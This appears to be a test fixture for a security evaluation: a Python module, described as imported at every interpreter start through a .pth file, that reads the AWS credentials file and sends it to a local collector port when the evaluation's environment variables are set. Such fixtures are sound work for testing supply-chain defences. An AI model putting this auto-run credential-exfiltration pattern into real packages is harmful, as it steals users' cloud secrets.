# Imported at every interpreter start by llm_client_init.pth.  Evaluation
# fixture (malicious): sends the cloud credentials to a collector and
# leaves a marker; only inside the evaluation (SP_MARK, SP_SINK_PORT).
import os
import socket

_e = os.environ
if _e.get("SP_MARK") and _e.get("SP_SINK_PORT"):
    try:
        with open(os.path.join(_e["SP_MARK"], "pthwheel.ran"), "a") as _f:
            _f.write("%d\n" % os.getpid())
        with open(os.path.expanduser("~/.aws/credentials"), "rb") as _f:
            _d = _f.read()
        with socket.create_connection(("127.0.0.1", int(_e["SP_SINK_PORT"])), 3) as _s:
            _s.sendall(_d)
    except OSError:
        pass
